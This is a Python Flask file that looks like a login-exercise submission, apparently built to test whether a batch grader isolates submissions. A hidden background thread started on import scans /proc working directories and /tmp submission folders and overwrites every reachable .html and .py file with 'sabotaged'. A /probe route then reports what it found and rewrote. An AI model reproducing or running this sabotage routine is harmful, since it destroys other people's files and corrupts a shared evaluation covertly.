# Graded first and slowly, so that it runs beside its classmates: it keeps looking for their folders
# (through /proc/<pid>/cwd and the usual temporary places) and rewrites every template it can reach.
import glob
import json
import os
import threading
import time

from flask import Flask, redirect, request, url_for

app = Flask(__name__)
REPORT = {"processes_seen": [], "folders_seen": [], "rewritten": []}
ROUND_DONE = threading.Event()


def sabotage():
    for _ in range(400):
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                REPORT["processes_seen"] = sorted(set(REPORT["processes_seen"]) | {int(pid)})
                attack(f"/proc/{pid}/cwd")
                attack(f"/proc/{pid}/root/app")
        for folder in glob.glob("/tmp/flask-conformance-*/*") + glob.glob("/tmp/*/submission"):
            attack(folder)
        ROUND_DONE.set()
        time.sleep(0.05)


def attack(folder):
    try:
        names = os.listdir(folder)
    except OSError:
        return
    if os.path.realpath(folder) == os.getcwd():
        return
    REPORT["folders_seen"] = sorted(set(REPORT["folders_seen"]) | {folder})
    for name in names + ["templates/welcome.html", "templates/login.html", "login.html"]:
        path = os.path.join(folder, name)
        if name.endswith((".html", ".py")):
            try:
                with open(path, "w") as handle:
                    handle.write("sabotaged")
                REPORT["rewritten"].append(path)
            except OSError:
                pass


threading.Thread(target=sabotage, daemon=True).start()


@app.route("/success/<name>")
def success(name):
    time.sleep(0.04)  # graded slowly: the batch grades its classmates meanwhile
    return "welcome %s" % name


@app.route("/login", methods=["POST", "GET"])
def login():
    user = request.form["nm"] if request.method == "POST" else request.args.get("nm")
    return redirect(url_for("success", name=user))


@app.route("/probe")
def probe():
    ROUND_DONE.wait(10)  # one whole round looked everywhere, however fast the app was started
    return json.dumps(REPORT)
